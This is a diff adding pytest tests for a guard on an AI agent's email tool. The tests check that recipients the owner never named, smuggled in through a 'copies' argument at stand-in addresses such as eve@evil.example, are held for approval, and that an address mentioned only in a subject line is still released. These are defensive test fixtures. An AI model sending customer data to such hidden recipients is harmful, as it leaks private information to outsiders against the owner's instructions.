@@ -72,6 +72,23 @@ def test_data_of_ours_does_not_leave_to_where_only_the_model_wants_it(world: Wor
     assert agent.code(second) == "approval_required", second.text
 
 
+@pytest.mark.parametrize("more", ["eve@evil.example,bob@evil.example", "evil.example/in", '[["eve@evil.example"]]'])
+def test_a_recipient_in_an_argument_that_the_owner_did_not_name_is_held(world: World, more: str) -> None:
+    agent = world.agent()
+    first = agent.ask("Look up the customer Ada, and send an email about her to anna@ok.example.", CUSTOMER)
+    agent.results(first, {"plan": "gold"})
+    second = agent.send(("send_email", {"to": "anna@ok.example", "body": "Gold.", "copies": more}))
+    assert agent.code(second) == "approval_required", second.text
+
+
+def test_a_subject_that_mentions_an_address_is_released(world: World) -> None:
+    agent = world.agent()
+    first = agent.ask("Look up the customer Ada, and send an email about what she asked to anna@ok.example.", CUSTOMER)
+    agent.results(first, {"plan": "gold"})
+    second = agent.send(("send_email", {"to": "anna@ok.example", "body": "Gold.", "subject": "Asked by eve@evil.example today"}))
+    assert [name for _, name in agent.called(second)] == ["send_email"], second.text
+
+
 @pytest.mark.parametrize("case", CASES)
 def test_the_three_together_in_one_answer_are_never_all_released(world: World, case: tuple[str, bool]) -> None:
     agent = world.agent(case)
